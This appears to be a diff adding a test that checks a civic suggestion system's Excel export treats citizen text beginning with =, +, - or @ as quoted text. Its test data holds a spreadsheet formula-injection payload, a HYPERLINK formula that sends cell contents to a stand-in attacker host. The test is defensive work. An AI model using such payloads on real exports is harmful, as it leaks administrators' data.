@@ -585,3 +585,17 @@ def test_exports_drop_control_characters_a_worksheet_refuses(app, client, admin,
     assert [queue[1][i] for i in columns] == ["幸福路路灯坏了。", "县住建局", "县住建局"]
     departments = list(_workbook(admin.get("/console/stats/export.xlsx"))["按承办部门"].values)
     assert departments[1][:2] == ("县住建局", 1)
+
+
+def test_exports_keep_words_that_look_like_formulas_as_text(client, admin, world):  # noqa: F811
+    """A citizen's words starting with =, +, - or @ reach the administrator's Excel as the text they
+    wrote, marked as text as Excel marks a typed apostrophe: never a formula that runs (or calls out to
+    a link) when the file is opened, nor one once the cell is edited."""
+    words = ['=HYPERLINK("http://evil.example/?d="&A2,"点击查看")', "+86 路灯坏了", "-幸福路积水", "@SUM(1+1)*cmd"]
+    for content in words:
+        assert file(client, world["citizen"], world["deputy_code"], content=content).status_code == 201
+    sheet = load_workbook(io.BytesIO(admin.get("/console/suggestions/export.xlsx").data))["建议清单"]
+    column = [c.value for c in sheet[1]].index("建议内容") + 1
+    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
+    assert sorted(c.value for c in cells) == sorted(words)
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells), [(c.value, c.data_type) for c in cells]
